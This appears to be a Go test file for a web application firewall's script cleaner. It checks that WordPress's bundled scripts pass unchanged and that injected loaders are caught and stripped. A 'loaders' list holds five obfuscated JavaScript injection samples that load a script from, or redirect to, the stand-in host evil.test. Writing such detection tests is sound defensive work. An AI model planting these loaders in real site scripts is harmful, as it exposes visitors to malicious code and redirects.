package wordpress_test

import (
	"bytes"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/lachan-waf/lachan/clean"
	"github.com/lachan-waf/lachan/policies"
)

// scriptFolders hold WordPress's own scripts (TinyMCE, CodeMirror, React,
// MediaElement.js among them) and the libraries its package depends on.
var scriptFolders = []string{"/usr/share/wordpress", "/usr/share/javascript"}

// TestOwnScriptsAreNotSuspected reads every script that Debian's WordPress
// comes with as a site with no allowlist would: none may look planted. With a
// loader put before or behind it, or in a line of its own, each must.
func TestOwnScriptsAreNotSuspected(t *testing.T) {
	if out, err := exec.Command("./install.sh").CombinedOutput(); err != nil {
		t.Fatalf("install WordPress: %v\n%s", err, out)
	}
	site := policies.DefaultSite()
	site.Name, site.Hosts = "site", []string{"site.test"}
	site.Response.Bodies.JS = policies.BodyClean
	cleaner, err := clean.New(&site, nil)
	if err != nil {
		t.Fatal(err)
	}
	count := 0
	for _, folder := range scriptFolders {
		err := filepath.WalkDir(folder, func(path string, entry fs.DirEntry, err error) error {
			if err != nil || entry.IsDir() || !strings.HasSuffix(path, ".js") {
				return err
			}
			code, err := os.ReadFile(path)
			if err != nil {
				return err
			}
			count++
			if out, findings := cleanScript(t, cleaner, code); len(findings) > 0 || !bytes.Equal(out, code) {
				t.Errorf("%s: %+v", path, findings)
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	if count < 500 {
		t.Errorf("only %d scripts found", count)
	}
}

// loaders are what intruders put into a site's own scripts.
var loaders = []string{
	`;(function(d,s){var j=d.createElement(s);j.src="https://evil.test/x.js";d.head.appendChild(j)})(document,"script");`,
	`eval(atob("bG9jYXRpb249J2h0dHBzOi8vZXZpbC50ZXN0Lyc="));`,
	`var _0x1=["\x68\x74\x74\x70\x73\x3a\x2f\x2f\x65\x76\x69\x6c\x2e\x74\x65\x73\x74\x2f"];location[_0x1]=_0x1[0];`,
	`document.write(String.fromCharCode(60,115,99,114,105,112,116,32,115,114,99,61,47,47,101,118,105,108,46,116,101,115,116,62));`,
	`setTimeout(function(){window.location.replace("https://evil.test/khuyen-mai")},3000);`,
}

func TestLoadersInOwnScripts(t *testing.T) {
	site := policies.DefaultSite()
	site.Name, site.Hosts = "site", []string{"site.test"}
	site.Response.Bodies.JS = policies.BodyClean
	cleaner, err := clean.New(&site, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"jquery/jquery.min.js", "tinymce/tinymce.min.js", "wp-emoji-release.min.js", "dist/vendor/react-dom.min.js"} {
		code, err := os.ReadFile(filepath.Join("/usr/share/wordpress/wp-includes/js", name))
		if err != nil {
			t.Fatal(err)
		}
		code = append(bytes.TrimRight(code, "\n"), '\n')
		for _, loader := range loaders {
			for place, infected := range map[string]string{
				"in front": loader + "\n" + string(code), "behind": string(code) + loader, "behind, on the same line": strings.TrimRight(string(code), "\n") + loader,
			} {
				out, findings := cleanScript(t, cleaner, []byte(infected))
				if len(findings) == 0 || bytes.Contains(out, []byte(loader)) {
					t.Errorf("%s %s %s: passes", loader, place, name)
				}
				if !strings.Contains(place, "same line") && !bytes.Equal(out, code) {
					t.Errorf("%s %s %s: the file itself did not stay as it was: %d bytes of %d", loader, place, name, len(out), len(code))
				}
			}
		}
	}
}

func cleanScript(t *testing.T, cleaner *clean.Cleaner, code []byte) ([]byte, []clean.Finding) {
	t.Helper()
	var out bytes.Buffer
	var findings []clean.Finding
	w := cleaner.NewBodyWriter(&out, clean.MediumJS, clean.Document{URL: "https://site.test/a.js", Report: func(f clean.Finding) { findings = append(findings, f) }})
	if _, err := w.Write(code); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes(), findings
}
